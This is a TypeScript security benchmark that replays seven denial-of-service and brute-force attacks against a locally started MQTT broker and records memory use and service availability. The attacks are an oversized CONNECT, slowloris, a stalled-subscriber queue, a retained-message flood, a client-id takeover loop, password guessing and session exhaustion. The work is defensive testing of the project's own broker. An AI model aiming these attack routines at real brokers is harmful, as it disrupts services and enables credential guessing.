// Replays the attacks of issue #14 against a Wharf checkout (default: this one) started with `wharf start`, and
// prints one JSON line per attack: broker RSS before / peak / after, what the attacker achieved, and whether a
// normal client was still served. Used for the before/after figures in docs/security.md:
//   node --import tsx bench/security/attacks.ts [--repo /path/to/checkout] [--only preconnect,queue,...]
// Not a test: it takes minutes and its numbers depend on the machine.
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import mqtt from "mqtt";
import mqttPacket from "mqtt-packet";

const args = process.argv.slice(2);
const opt = (name: string): string | undefined => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : undefined;
};
const repo = opt("repo") ?? process.cwd();
const only = opt("only")?.split(",");
const passwordFile = opt("password-file"); // users alice:s3cret for the brute-force attack (new versions)

interface Broker {
  proc: ChildProcess;
  port: number;
  logLines: () => number;
  logBytes: () => number;
  rssMb: () => number;
  stop: () => Promise<void>;
}

async function startBroker(configYaml: string): Promise<Broker> {
  const dir = mkdtempSync(join(tmpdir(), "wharf-attack-"));
  const cfg = join(dir, "wharf.yaml");
  writeFileSync(cfg, configYaml);
  const proc = spawn(process.execPath, ["--import", "tsx", "src/cli/main.ts", "start", "-c", cfg], {
    cwd: repo,
    stdio: ["ignore", "pipe", "pipe"],
  });
  let lines = 0;
  let bytes = 0;
  let port = 0;
  let buf = "";
  const ready = new Promise<void>((resolve, reject) => {
    proc.stdout.on("data", (d: Buffer) => {
      bytes += d.length;
      buf += d.toString();
      let nl: number;
      while ((nl = buf.indexOf("\n")) >= 0) {
        const line = buf.slice(0, nl);
        buf = buf.slice(nl + 1);
        lines++;
        if (port === 0 && line.includes('"listening"')) {
          port = (JSON.parse(line) as { listeners: { port: number }[] }).listeners[0]!.port;
          resolve();
        }
      }
    });
    proc.once("exit", (code) => reject(new Error(`broker exited ${code}`)));
  });
  await ready;
  return {
    proc,
    port,
    logLines: () => lines,
    logBytes: () => bytes,
    rssMb: () => {
      try {
        const m = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${proc.pid}/status`, "utf8"));
        return m ? Math.round(Number(m[1]) / 1024) : Number.NaN;
      } catch {
        return Number.NaN;
      }
    },
    stop: () =>
      new Promise((resolve) => {
        if (proc.exitCode !== null) return resolve();
        proc.once("exit", () => resolve());
        proc.kill("SIGKILL");
      }),
  };
}

const BASE = (extra = "") => `listeners: [{ host: 127.0.0.1, port: 0 }]
storage: { type: memory }
log: { format: json }
sys: { interval: 0 }
${extra}`;

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));

/** Samples RSS every 100 ms while `fn` runs; returns the peak. */
async function peakDuring(b: Broker, fn: () => Promise<void>): Promise<number> {
  let peak = b.rssMb();
  const t = setInterval(() => (peak = Math.max(peak, b.rssMb())), 100);
  try {
    await fn();
  } finally {
    clearInterval(t);
  }
  return Math.max(peak, b.rssMb());
}

/** A normal client: connect, subscribe, QoS 1 round trip within 5 s. */
async function normalClientServed(port: number, opts: mqtt.IClientOptions = {}): Promise<boolean> {
  const c = mqtt.connect(`mqtt://127.0.0.1:${port}`, { reconnectPeriod: 0, connectTimeout: 5000, ...opts });
  try {
    await Promise.race([
      (async () => {
        await new Promise<void>((res, rej) => (c.once("connect", () => res()), c.once("error", rej)));
        await c.subscribeAsync("normal/t", { qos: 1 });
        const got = new Promise<void>((res) => c.once("message", () => res()));
        await c.publishAsync("normal/t", "hi", { qos: 1 });
        await got;
      })(),
      sleep(5000).then(() => {
        throw new Error("timeout");
      }),
    ]);
    return true;
  } catch {
    return false;
  } finally {
    c.end(true);
  }
}

function rawSocket(port: number): Promise<Socket> {
  return new Promise((res, rej) => {
    const s = connect(port, "127.0.0.1", () => res(s));
    s.once("error", rej);
  });
}

const enc = (p: object): Buffer => mqttPacket.generate(p as mqttPacket.Packet);
const connectPkt = (clientId: string, extra: object = {}) =>
  enc({ cmd: "connect", protocolId: "MQTT", protocolVersion: 4, clean: true, clientId, keepalive: 0, ...extra });

type Result = Record<string, unknown>;

const attacks: Record<string, () => Promise<Result>> = {
  /** 4 connections announce a 256 MB CONNECT and send 64 MB each. */
  async preconnect() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    const sent: number[] = [];
    let closedEarly = 0;
    const peak = await peakDuring(b, async () => {
      await Promise.all(
        [0, 1, 2, 3].map(async (i) => {
          const s = await rawSocket(b.port);
          let closed = false;
          s.on("close", () => (closed = true));
          s.on("error", () => undefined);
          s.write(Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f]));
          const chunk = Buffer.alloc(1 << 20, 0x61);
          let n = 0;
          for (; n < 64 && !closed; n++) {
            if (!s.write(chunk)) await new Promise((r) => (s.once("drain", r), s.once("close", r)));
          }
          sent[i] = n;
          await sleep(500);
          if (closed) closedEarly++;
          s.destroy();
        }),
      );
    });
    await sleep(300);
    const served = await normalClientServed(b.port);
    const after = b.rssMb();
    await b.stop();
    return {
      rssBeforeMb: before,
      rssPeakMb: peak,
      rssAfterMb: after,
      mbSentPerConn: sent,
      closedByBroker: closedEarly,
      served,
    };
  },

  /** 1,000 connections send half a CONNECT and then one byte a second. */
  async slowloris() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    const sockets: Socket[] = [];
    let closed = 0;
    const half = connectPkt("slow").subarray(0, 6);
    const peak = await peakDuring(b, async () => {
      for (let i = 0; i < 1000; i++) {
        const s = await rawSocket(b.port).catch(() => undefined);
        if (s === undefined) continue;
        s.on("close", () => closed++);
        s.on("error", () => undefined);
        s.write(half.subarray(0, 2));
        sockets.push(s);
      }
      for (let sec = 0; sec < 5; sec++) {
        await sleep(1000);
        for (const s of sockets) if (!s.destroyed) s.write(half.subarray(2 + (sec % 4), 3 + (sec % 4)));
      }
    });
    const served = await normalClientServed(b.port);
    const open = sockets.length - closed;
    for (const s of sockets) s.destroy();
    const after = b.rssMb();
    await b.stop();
    return {
      rssBeforeMb: before,
      rssPeakMb: peak,
      rssAfterMb: after,
      opened: sockets.length,
      stillOpenAfter5s: open,
      served,
    };
  },

  /** A QoS 1 subscriber that never reads; 10 x 16 MB QoS 1 messages published to it. */
  async queue() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    const sub = await rawSocket(b.port);
    sub.on("error", () => undefined);
    sub.write(connectPkt("stalled", { clean: false }));
    sub.write(enc({ cmd: "subscribe", messageId: 1, subscriptions: [{ topic: "q/#", qos: 1 }] }));
    await sleep(300);
    sub.pause(); // never reads again
    const pub = mqtt.connect(`mqtt://127.0.0.1:${b.port}`, { reconnectPeriod: 0, clientId: "bigpub" });
    await new Promise((r) => pub.once("connect", r));
    const payload = Buffer.alloc(16 << 20, 0x62);
    let acked = 0;
    const peak = await peakDuring(b, async () => {
      for (let i = 0; i < 10; i++) {
        await Promise.race([pub.publishAsync("q/big", payload, { qos: 1 }).then(() => acked++), sleep(10_000)]);
      }
      await sleep(1000);
    });
    const during = b.rssMb();
    pub.end(true);
    sub.destroy();
    await sleep(2000);
    const served = await normalClientServed(b.port);
    const after = b.rssMb();
    await b.stop();
    return {
      rssBeforeMb: before,
      rssPeakMb: peak,
      rssDuringMb: during,
      rssAfterLeaveMb: after,
      published: 10,
      acked,
      served,
    };
  },

  /** 50,000 retained messages, then mosquitto_sub -t '#' at QoS 0 and QoS 1. */
  async retained() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    const pub = await rawSocket(b.port);
    pub.write(connectPkt("retainer"));
    const N = 50_000;
    for (let i = 0; i < N; i++) {
      const ok = pub.write(enc({ cmd: "publish", topic: `r/${i}`, payload: `v${i}`, qos: 0, retain: true }));
      if (!ok) await new Promise((r) => pub.once("drain", r));
    }
    await sleep(1500);
    const counts: Record<string, number> = {};
    const peak = await peakDuring(b, async () => {
      for (const q of ["0", "1"]) {
        counts[`qos${q}`] = await new Promise<number>((resolve) => {
          const p = spawn("mosquitto_sub", ["-h", "127.0.0.1", "-p", String(b.port), "-t", "#", "-q", q, "-W", "8"]);
          let lines = 0;
          let tail = "";
          p.stdout.on("data", (d: Buffer) => {
            const s = tail + d.toString();
            const parts = s.split("\n");
            tail = parts.pop()!;
            lines += parts.length;
          });
          p.on("exit", () => resolve(lines));
        });
      }
    });
    pub.destroy();
    const served = await normalClientServed(b.port);
    const after = b.rssMb();
    await b.stop();
    return { rssBeforeMb: before, rssPeakMb: peak, rssAfterMb: after, retained: N, received: counts, served };
  },

  /** Two clients with one client id that reconnect whenever taken over, for 10 s. */
  async takeover() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    const l0 = b.logLines();
    const by0 = b.logBytes();
    const mk = () => mqtt.connect(`mqtt://127.0.0.1:${b.port}`, { clientId: "shared-id", reconnectPeriod: 1 });
    const c1 = mk();
    const c2 = mk();
    let peak = 0;
    peak = await peakDuring(b, () => sleep(10_000));
    c1.end(true);
    c2.end(true);
    await sleep(500);
    const served = await normalClientServed(b.port);
    const res = {
      rssBeforeMb: before,
      rssPeakMb: peak,
      logLines10s: b.logLines() - l0,
      logBytes10s: b.logBytes() - by0,
      served,
    };
    await b.stop();
    return res;
  },

  /** 200 wrong passwords for "alice" (allowAnonymous false; password file when given). */
  async bruteforce() {
    const auth = passwordFile === undefined ? "" : `auth: { passwordFile: ${passwordFile} }\n`;
    const b = await startBroker(BASE(`mqtt: { allowAnonymous: false }\n${auth}`));
    const codes: Record<string, number> = {};
    const t0 = Date.now();
    await Promise.all(
      Array.from({ length: 200 }, async (_, i) => {
        const s = await rawSocket(b.port);
        s.on("error", () => undefined);
        s.write(connectPkt(`bf${i}`, { username: "alice", password: Buffer.from(`guess${i}`) }));
        const code = await new Promise<number>((res) => {
          s.once("data", (d: Buffer) => res(d[3] ?? -1));
          s.once("close", () => res(-1));
          setTimeout(() => res(-2), 20_000);
        });
        codes[code] = (codes[code] ?? 0) + 1;
        s.destroy();
      }),
    );
    const ms = Date.now() - t0;
    const served = await normalClientServed(b.port, { username: "alice", password: "s3cret" });
    await b.stop();
    return { attempts: 200, connackCodes: codes, accepted: codes[0] ?? 0, ms, rightPasswordServedAfter: served };
  },

  /** 10,000 unique clean-session-0 connects (3.1.1), each disconnecting at once. */
  async sessions() {
    const b = await startBroker(BASE());
    const before = b.rssMb();
    let done = 0;
    const peak = await peakDuring(b, async () => {
      for (let batch = 0; batch < 100; batch++) {
        await Promise.all(
          Array.from({ length: 100 }, async (_, i) => {
            const s = await rawSocket(b.port);
            s.on("error", () => undefined);
            s.write(connectPkt(`sess-${batch}-${i}`, { clean: false }));
            await new Promise<void>((res) => {
              s.once("data", () => res());
              s.once("close", () => res());
            });
            s.end(enc({ cmd: "disconnect" }));
            done++;
          }),
        );
      }
      await sleep(2000);
    });
    const served = await normalClientServed(b.port);
    const after = b.rssMb();
    await b.stop();
    return { rssBeforeMb: before, rssPeakMb: peak, rssAfterMb: after, sessionsCreated: done, served };
  },
};

for (const [name, run] of Object.entries(attacks)) {
  if (only !== undefined && !only.includes(name)) continue;
  try {
    console.log(JSON.stringify({ attack: name, repo, ...(await run()) }));
  } catch (err) {
    console.log(JSON.stringify({ attack: name, repo, error: String(err) }));
  }
}
process.exit(0);
